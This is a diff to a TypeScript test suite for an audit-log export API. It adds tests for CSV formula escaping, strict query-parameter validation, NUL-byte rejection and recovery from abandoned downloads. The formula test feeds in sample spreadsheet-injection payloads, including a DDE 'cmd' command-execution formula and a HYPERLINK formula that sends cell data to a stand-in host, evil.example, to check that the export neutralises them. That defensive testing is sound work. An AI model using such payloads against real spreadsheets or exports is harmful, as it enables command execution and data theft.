@@ -8,8 +8,10 @@ import { Transform } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
 import v8 from 'node:v8';
 import vm from 'node:vm';
+import pino from 'pino';
 import { eventHash, HashedEvent } from '../../src/modules/audit/audit-hash';
 import { Role } from '../../src/modules/auth/caller';
+import { logger } from '../../src/shared/logger';
 import { authHeader, dataOf, startTestApi, TestApi } from '../helpers/test-api';
 
 /**
@@ -110,12 +112,15 @@ function parseCsv(text: string): (string | null)[][] {
   return rows;
 }
 
+/** A cell as the export wrote it back into its value: one leading quote, the spreadsheet-safety prefix, removed. */
+const cellValue = (cell: string | null) => (cell?.startsWith("'") ? cell.slice(1) : cell);
+
 /** A CSV row back into the event it was written from (JSON members as JSON, empty as null). */
 function eventFromCsv(header: (string | null)[], row: (string | null)[]): Record<string, unknown> {
   expect(row).toHaveLength(header.length);
   const event: Record<string, unknown> = {};
   header.forEach((name, i) => {
-    const value = row[i];
+    const value = cellValue(row[i]);
     if (name === null) return;
     if (name === 'sequence' || name === 'version') event[name] = Number(value);
     else if (name === 'countryCodes' || name === 'changes') event[name] = JSON.parse(value ?? 'null');
@@ -283,6 +288,47 @@ describe('CSV fidelity', () => {
     expect(fromCsv.find((e) => e.sequence === changed.sequence)!.note).toBe('');
     expect(await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'))).toMatchObject({ code: 0 });
   });
+
+  it('cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR) get a leading quote and are quoted; the NDJSON keeps them as they are', async () => {
+    const notes = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=already quoted", 'plain, = inside'];
+    const created = dataOf(
+      await api.graphql(
+        `mutation($input: CreateCommitmentInput!) { createCommitment(input: $input) { commitment { id version } } }`,
+        { input: { title: 'Formula target', kind: 'FUNDING', instrument: 'MOU', status: 'ANNOUNCED', parties: [{ countryCode: 'IN', role: 'LEAD' }] } },
+        admin,
+      ),
+    ).createCommitment.commitment;
+    const formulaActor = await authHeader({ sub: '=HYPERLINK("http://evil.example/?"&A1)', role: Role.ADMIN });
+    let version = created.version;
+    for (const [index, note] of notes.entries()) {
+      const input = { commitmentId: created.id, expectedVersion: version, status: index % 2 === 0 ? 'IN_PROGRESS' : 'DELAYED', note };
+      const changed = await api.graphql(`mutation($input: ChangeCommitmentStatusInput!) { changeCommitmentStatus(input: $input) { commitment { version } } }`, { input }, index === 0 ? formulaActor : admin);
+      version = dataOf(changed).changeCommitmentStatus.commitment.version;
+    }
+    const subjectId = fromGlobal(created.id);
+
+    const csv = (await download('csv')).text;
+    const [header, ...rows] = parseCsv(csv);
+    const column = (name: string) => header.indexOf(name);
+    const ours = rows.filter((row) => row[column('subjectId')] === subjectId && row[column('action')] === 'STATUS_CHANGED');
+    expect(ours.map((row) => row[column('note')])).toEqual(notes.map((note) => (/^[-=+@\t\r']/.test(note) ? `'${note}` : note)));
+    expect(ours[0][column('actorSub')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
+    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
+    // No cell anywhere in the file starts like a formula, and every value is quoted.
+    expect(rows.flat().filter((cell) => cell !== null && /^[-=+@\t\r]/.test(cell))).toEqual([]);
+    expect(csv.split('\n')[1]).toMatch(/^"\d+","/);
+
+    const ndjson = (await download('ndjson')).text;
+    const events = ndjsonLines(ndjson).map((line) => JSON.parse(line));
+    const trail = events.filter((e) => e.subjectId === subjectId && e.action === 'STATUS_CHANGED');
+    expect(trail.map((e) => e.note)).toEqual(notes);
+    expect(trail[0].actorSub).toBe('=HYPERLINK("http://evil.example/?"&A1)');
+    expect(await verifyExport(ndjson)).toMatchObject({ code: 0 });
+    // Removing one leading quote gives every value back: the CSV holds the same, verifiable events.
+    const fromCsv = rows.map((row) => eventFromCsv(header, row));
+    expect(fromCsv).toEqual(events);
+    expect(await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'))).toMatchObject({ code: 0 });
+  });
 });
 
 describe('filtered exports', () => {
@@ -359,16 +405,8 @@ describe('who may export', () => {
     for (const headers of [auditor, admin]) expect((await download(format, '', headers)).status).toBe(200);
   });
 
-  it.each([
-    ['subjectTypes=COMMITMENT,BOGUS', 'subjectTypes', /Unknown subjectTypes: BOGUS/],
-    ['actions=DELETED', 'actions', /Unknown actions: DELETED/],
-    ['occurredAtFrom=yesterday', 'occurredAtFrom', /occurredAtFrom must be an ISO 8601 date-time/],
-    ['occurredAtTo=2026-13-45T00:00:00Z', 'occurredAtTo', /occurredAtTo must be an ISO 8601 date-time/],
-    ['subjectGlobalId=not-an-id', 'subjectGlobalId', /Malformed ID "not-an-id"/],
-    // Names from before the rename are refused, not ignored: ignoring one would export more than was asked for.
-    ['from=2026-01-12T00:00:00Z', 'from', /Unknown parameter "from"/],
-    ['subjectId=x', 'subjectId', /Unknown parameter "subjectId"/],
-  ])('an unknown filter value (%s) is 400 BAD_USER_INPUT naming the parameter', async (query, argument, message) => {
+  /** Both formats answer 400 BAD_USER_INPUT naming the parameter; a PARTNER gets 403 and learns nothing about the filter. */
+  async function expectRefusedParameter(query: string, argument: string, message: RegExp) {
     for (const format of ['ndjson', 'csv'] as const) {
       const response = await download(format, query);
       expect(response.status).toBe(400);
@@ -377,8 +415,60 @@ describe('who may export', () => {
       expect(body.errors[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument } });
       expect(body.errors[0].message).toMatch(message);
     }
-    // Authorization comes first: a PARTNER learns nothing about the filter.
     expect((await download('ndjson', query, partner)).status).toBe(403);
+  }
+
+  it.each([
+    ['subjectTypes=COMMITMENT,BOGUS', 'subjectTypes', /Unknown subjectTypes: BOGUS/],
+    ['actions=DELETED', 'actions', /Unknown actions: DELETED/],
+    ['occurredAtFrom=yesterday', 'occurredAtFrom', /occurredAtFrom must be an ISO 8601 date-time/],
+    ['occurredAtTo=2026-13-45T00:00:00Z', 'occurredAtTo', /occurredAtTo must be an ISO 8601 date-time/],
+    ['subjectGlobalId=not-an-id', 'subjectGlobalId', /Malformed ID "not-an-id"/],
+  ])('an unknown filter value (%s) is 400 BAD_USER_INPUT naming the parameter', async (query, argument, message) => {
+    await expectRefusedParameter(query, argument, message);
+  });
+
+  it.each([
+    ['bogus=1', 'bogus', /Unknown query parameter "bogus" \(allowed: subjectTypes, subjectGlobalId, countryCodes, actors, actions, occurredAtFrom, occurredAtTo\)/],
+    // Names from before the rename are refused, not ignored: ignoring one would export more than was asked for.
+    ['from=2026-01-12T00:00:00Z', 'from', /Unknown query parameter "from"/],
+    ['subjectId=x', 'subjectId', /Unknown query parameter "subjectId"/],
+    ['actors[]=x', 'actors[]', /Unknown query parameter "actors\[\]"/],
+    ['actors=admin-1&subjectType=PROJECT', 'subjectType', /Unknown query parameter "subjectType"/],
+    ['subjectGlobalId=a&subjectGlobalId=b', 'subjectGlobalId', /subjectGlobalId takes one value, not 2/],
+    ['occurredAtFrom=2026-01-01T00:00:00Z&occurredAtFrom=2026-02-01T00:00:00Z', 'occurredAtFrom', /occurredAtFrom takes one value, not 2/],
+    ['countryCodes=', 'countryCodes', /countryCodes needs at least one value/],
+    ['actors=,', 'actors', /actors needs at least one value/],
+  ])('an unknown or malformed parameter (%s) is 400 BAD_USER_INPUT naming it, never ignored', async (query, argument, message) => {
+    await expectRefusedParameter(query, argument, message);
+  });
+
+  describe('a NUL byte in a filter', () => {
+    const lines: string[] = [];
+    const streamSym = pino.symbols.streamSym as unknown as keyof typeof logger;
+    let originalStream: unknown;
+    let originalLevel: string;
+    beforeAll(() => {
+      originalLevel = logger.level;
+      originalStream = logger[streamSym];
+      (logger as any)[streamSym] = { write: (line: string) => void lines.push(line) };
+      logger.level = 'trace';
+    });
+    afterAll(() => {
+      logger.level = originalLevel;
+      (logger as any)[streamSym] = originalStream;
+    });
+
+    it.each([
+      ['actors=admin-1,%00', 'actors'],
+      ['countryCodes=I%00N', 'countryCodes'],
+      ['subjectGlobalId=%00', 'subjectGlobalId'],
+      ['occurredAtFrom=2026-01-01T00:00:00Z%00', 'occurredAtFrom'],
+    ])('%s is 400 BAD_USER_INPUT naming the parameter, and logged at info level at most', async (query, argument) => {
+      lines.length = 0;
+      await expectRefusedParameter(query, argument, /must not contain a NUL character/);
+      expect(lines.map((line) => JSON.parse(line)).filter((entry) => entry.level > 30)).toEqual([]);
+    });
   });
 });
 
@@ -547,18 +637,30 @@ describe('memory: streaming 200,000 events', () => {
     fs.rmSync(file);
   }, 120_000);
 
-  it('clients that hang up mid-export give their connections back: 30 abandoned downloads (pool of 20), then everything still answers', async () => {
-    for (let i = 0; i < 30; i++) {
-      await new Promise<void>((resolve, reject) => {
+  it('clients that hang up mid-export give their export connections back: 30 abandoned downloads, then everything still answers', async () => {
+    /** 'ok' once the export started and was abandoned; 'busy' if the export connections were all still taken. */
+    const abandonedDownload = () =>
+      new Promise<'ok' | 'busy'>((resolve, reject) => {
         const request = http.get(exportUrl('ndjson'), { headers: auditor }, (response) => {
+          if (response.statusCode === 429) {
+            response.resume();
+            return resolve('busy');
+          }
           expect(response.statusCode).toBe(200);
           response.once('data', () => {
             request.destroy();
-            resolve();
+            resolve('ok');
           });
         });
-        request.on('error', (error) => ((error as NodeJS.ErrnoException).code === 'ECONNRESET' ? resolve() : reject(error)));
+        request.on('error', (error) => ((error as NodeJS.ErrnoException).code === 'ECONNRESET' ? resolve('ok') : reject(error)));
       });
+    for (let i = 0; i < 30; i++) {
+      // The previous download's connection is given back as the server sees the hang-up, a moment after it.
+      const deadline = Date.now() + 10_000;
+      while ((await abandonedDownload()) === 'busy') {
+        if (Date.now() > deadline) throw new Error(`download ${i} found every export connection taken for 10 s`);
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      }
     }
     // The abandoned COPYs end on the server too, rather than block on a socket nobody reads.
     const copying = () => q(`SELECT count(*)::int AS count FROM pg_stat_activity WHERE query LIKE 'COPY (SELECT%' AND pid <> pg_backend_pid()`);
